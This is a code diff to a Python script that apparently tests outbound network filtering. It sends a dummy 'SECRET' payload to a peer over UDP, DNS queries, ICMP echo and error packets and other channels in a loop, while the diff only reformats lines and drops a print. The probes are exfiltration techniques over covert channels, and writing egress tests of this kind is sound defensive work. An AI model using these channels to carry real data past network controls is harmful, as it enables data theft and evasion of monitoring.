@@ -54,11 +54,15 @@ def attempt(what: str) -> None:
         elif what == "udp":
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"SECRET" * 20, (peer, 514))
         elif what == "dns":
-            query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x00\x00\x10\x00\x01"
+            query = (
+                b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x00\x00\x10\x00\x01"
+            )
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (peer, 53))
         elif what == "icmp":
             raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-            raw.sendto(b"\x08\x00" + os.urandom(2) + b"\x00\x01\x00\x01" + b"SECRET" * 50, (peer, 0))
+            raw.sendto(
+                b"\x08\x00" + os.urandom(2) + b"\x00\x01\x00\x01" + b"SECRET" * 50, (peer, 0)
+            )
         elif what == "icmp-error":
             raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
             raw.sendto(b"\x03\x01" + os.urandom(2) + b"\0\0\0\0" + b"SECRET" * 10, (peer, 0))
@@ -81,4 +85,3 @@ while time.monotonic() < end:
     for what in ("tcp", "udp", "dns", "icmp", "icmp-error", "ipv6", "raw-tcp", "gre"):
         attempt(what)
     time.sleep(0.2)
-print(counts)
